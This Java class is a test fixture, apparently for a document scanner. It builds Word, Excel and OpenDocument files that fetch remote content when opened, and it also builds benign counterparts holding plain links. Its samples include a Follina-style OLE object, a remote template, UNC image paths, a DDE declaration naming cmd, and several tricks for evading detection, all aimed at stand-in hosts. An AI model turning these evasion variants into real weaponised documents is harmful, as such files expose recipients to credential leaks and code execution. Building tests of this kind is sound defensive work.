package nl.koers.attack;

import static nl.koers.attack.HostileFiles.docx;
import static nl.koers.attack.HostileFiles.file;
import static nl.koers.attack.HostileFiles.odt;
import static nl.koers.attack.HostileFiles.word;
import static nl.koers.attack.HostileFiles.xlsx;
import static nl.koers.attack.HostileFiles.zip;

import java.util.List;
import java.util.stream.Stream;
import nl.koers.documents.FileLook.Why;

/// Office files that fetch something from elsewhere while they are opened, and ordinary ones that only name an address.
final class FetchingFiles {
    private static final String OPEN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
    private static final String RELS = "word/_rels/document.xml.rels";

    private FetchingFiles() {}

    static List<HostileFiles> all() {
        return Stream.of(word(), FetchingFields.all(), others())
                .flatMap(files -> files)
                .toList();
    }

    private static Stream<HostileFiles> word() {
        return Stream.of(
                word("object van buiten (Follina)", related("oleObject", "http://elders.example/poc.html!")),
                word("object dat mhtml haalt", related("oleObject", "mhtml:http://elders.example/a!x-usc:b")),
                word("kader van buiten", related("frame", "http://elders.example/kader.html")),
                word(
                        "deeldocument op een andere computer",
                        related("subDocument", "file://elders.example/deel/a.docx")),
                word("plaatje van buiten", related("image", "https://elders.example/teller.png")),
                word("plaatje op een gedeelde schijf", related("image", "\\\\elders.example\\deel\\a.png")),
                word("cijfers van buiten onder een grafiek", related("externalLink", "file:///C:\\cijfers.xlsx")),
                word(
                        "plaatje van buiten, strenge soort",
                        docx(RELS, list(STRICT + "image", "http://elders.example/a", "External"))),
                word(
                        "plaatje van buiten, klein geschreven",
                        docx(RELS, list(OPEN + "image", "http://elders.example/a", "external"))),
                word(
                        "plaatje van buiten dat van binnen heet",
                        docx(RELS, list(OPEN + "image", "//elders.example/a", "Internal"))),
                word(
                        "plaatje van buiten, in tekens verstopt",
                        docx(RELS, list(OPEN + "image", "http://elders.example/a", "Exter&#110;al"))),
                word(
                        "plaatje van buiten na duizend links",
                        docx(
                                RELS,
                                many() + one(OPEN + "image", "http://elders.example/a", "External")
                                        + "</Relationships>")),
                word(
                        "sjabloon van buiten onder een andere naam",
                        docx(
                                "word/_rels/instellingen.xml.RELS",
                                list(OPEN + "attachedTemplate", "http://elders.example/a.dotm", "External"))),
                word(
                        "object van buiten in een document in het document",
                        docx("word/embeddings/a.docx", related("oleObject", "http://elders.example/a"))));
    }

    private static Stream<HostileFiles> others() {
        return Stream.of(
                file(
                        "xlsx met cijfers uit een andere map",
                        Why.FETCHES,
                        xlsx("xl/externalLinks/externalLink1.xml", "<externalLink/>")),
                file("xlsx die een bron vraagt", Why.FETCHES, xlsx("xl/connections.xml", "<connections/>")),
                file(
                        "xlsx die een bron onder een andere naam vraagt",
                        Why.FETCHES,
                        xlsx("xl/_rels/workbook.xml.rels", list(OPEN + "connections", "bron.xml", "Internal"))),
                file(
                        "xlsx met een plaatje van buiten",
                        Why.FETCHES,
                        xlsx(
                                "xl/drawings/_rels/drawing1.xml.rels",
                                list(OPEN + "image", "http://elders.example/a", "External"))),
                file("lijst van delen die niet klopt", Why.BROKEN, docx(RELS, "<Relationships><Relationship")),
                file(
                        "odt met een plaatje van buiten",
                        Why.FETCHES,
                        text("<draw:image xlink:href='http://elders.example/teller.png'/>")),
                file(
                        "odt met een plaatje van een andere computer",
                        Why.FETCHES,
                        text("<draw:image xlink:href='file://elders.example/deel/a.png'/>")),
                file(
                        "odt met een plaatje over ftp",
                        Why.FETCHES,
                        text("<draw:image xlink:href='ftp://elders.example/a.png'/>")),
                file(
                        "odt met een object van buiten",
                        Why.FETCHES,
                        text("<draw:object xlink:href='http://elders.example/a.ods'/>")),
                file(
                        "odt met een hoofdstuk van buiten",
                        Why.FETCHES,
                        text("<text:section-source xlink:href='http://elders.example/a.odt'/>")),
                file(
                        "odt met een achtergrond van buiten",
                        Why.FETCHES,
                        odt(
                                "styles.xml",
                                opened("<style:background-image xlink:href='http://elders.example/a.png'/>"))),
                file(
                        "odt die een ander programma om woorden vraagt",
                        Why.FETCHES,
                        text("<text:dde-connection-decl office:dde-application='cmd'/>")),
                file(
                        "odt die naar elders verspringt",
                        Why.FETCHES,
                        odt("meta.xml", opened("<meta:auto-reload xlink:href='http://elders.example/'/>"))),
                file(
                        "odt met een plaatje van buiten in een object",
                        Why.FETCHES,
                        odt("Object 1/content.xml", opened("<draw:image xlink:href='http://elders.example/a.png'/>"))));
    }

    /// What people make every day.
    static List<HostileFiles> ordinary() {
        return Stream.concat(links(), FetchingFields.ordinary()).toList();
    }

    private static Stream<HostileFiles> links() {
        return Stream.of(
                taken("Word met een link, een lijst, een plaatje en een noot", WordXml.with(List.of())),
                taken(
                        "Word met een link naar een site en een mailadres",
                        docx(
                                RELS,
                                many() + one(OPEN + "hyperlink", "mailto:noor@delta.example", "External")
                                        + one(OPEN + "image", "media/image1.png", "Internal")
                                        + one(OPEN + "styles", "styles.xml", "") + "</Relationships>")),
                taken(
                        "Word met een link, strenge soort",
                        docx(RELS, list(STRICT + "hyperlink", "https://koers.example/", "External"))),
                taken(
                        "xlsx met een link in een cel",
                        xlsx(
                                "xl/worksheets/_rels/sheet1.xml.rels",
                                list(OPEN + "hyperlink", "https://koers.example/", "External"))),
                taken(
                        "odt met links en een plaatje van zichzelf",
                        text(
                                "<text:p><text:a xlink:href='https://koers.example/'>hier</text:a></text:p><draw:a xlink:href='mailto:noor@delta.example'/><draw:image xlink:href='Pictures/1.png'/><draw:object xlink:href='./Object 1'/>")),
                taken(
                        "odt die met een sjabloon is begonnen",
                        odt("meta.xml", opened("<meta:template xlink:href='file:///C:/Sjablonen/brief.ott'/>"))));
    }

    private static HostileFiles word(String what, byte[] bytes) {
        return HostileFiles.word(what, Why.FETCHES, bytes);
    }

    private static HostileFiles taken(String what, byte[] bytes) {
        return file(what, null, bytes);
    }

    private static byte[] related(String type, String target) {
        return docx(RELS, list(OPEN + type, target, "External"));
    }

    private static String list(String type, String target, String mode) {
        return "<Relationships>" + one(type, target, mode) + "</Relationships>";
    }

    private static String many() {
        return "<Relationships>"
                + one(OPEN + "hyperlink", "https://koers.example/een/bladzijde", "External")
                        .repeat(1_000);
    }

    private static String one(String type, String target, String mode) {
        return "<Relationship Type='%s' Target='%s' TargetMode='%s'/>"
                .formatted(type, target, mode.isEmpty() ? "Internal" : mode);
    }

    /// An OpenDocument text with this in it.
    private static byte[] text(String content) {
        return zip("mimetype", HostileFiles.ODT, "content.xml", opened(content));
    }

    private static String opened(String content) {
        return "<o xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:draw='d' xmlns:text='t' xmlns:style='s' xmlns:meta='m' xmlns:office='o'>"
                + content + "</o>";
    }
}
